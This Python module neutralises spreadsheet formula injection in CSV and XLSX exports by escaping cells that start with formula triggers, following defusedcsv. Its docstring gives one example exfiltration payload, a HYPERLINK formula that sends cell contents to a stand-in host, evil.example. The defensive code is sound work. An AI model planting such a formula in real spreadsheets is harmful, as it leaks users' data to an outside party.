"""The one rule for text written into a spreadsheet cell (CSV, XLSX, any future export).

A cell whose text starts with ``= + - @`` (or ``| %``, or a TAB / CR that spreadsheets skip before
reading a formula) is taken for a formula by Excel, LibreOffice and Google Sheets: a filer named
``=HYPERLINK("http://evil.example/?d="&A1,"Clic")`` would become a live link that leaks the sheet.
Such text gets a leading apostrophe (and ``|`` becomes ``\\|``, against DDE payloads), exactly as
``defusedcsv`` escapes it, so the CSV writer (``defusedcsv.writer``) and the XLSX writer agree
cell for cell. Plain numbers written as text (``-12``, ``-1,5``) are left as they are, as
``defusedcsv`` does: no spreadsheet reads them as a formula. Real numbers and dates never pass
through here: they stay typed.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from datetime import date, datetime
from numbers import Number

# defusedcsv 3.0.0 escapes the first six; TAB and CR are added here.
TRIGGERS = ("=", "+", "-", "@", "|", "%", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^-?[0-9,\.]+$")

Cell = str | int | float | date | datetime | None


def neutralise(text: str) -> str:
    """``text`` as a cell that no spreadsheet evaluates: ``'`` + text (``|`` -> ``\\|``) when it
    starts with a formula trigger, unchanged otherwise."""
    if text and text[0] in TRIGGERS and not _PLAIN_NUMBER.match(text):
        return "'" + text.replace("|", "\\|")
    return text


def cell(value: object) -> Cell:
    """A value for an export cell: numbers (not booleans) and dates stay typed, None stays empty,
    everything else becomes neutralised text."""
    if value is None or isinstance(value, date | datetime):
        return value
    if isinstance(value, Number) and not isinstance(value, bool):
        return value  # type: ignore[return-value]
    return neutralise(str(value))


def row(values: Iterable[object]) -> list[Cell]:
    """:func:`cell` applied to every value of a row."""
    return [cell(v) for v in values]
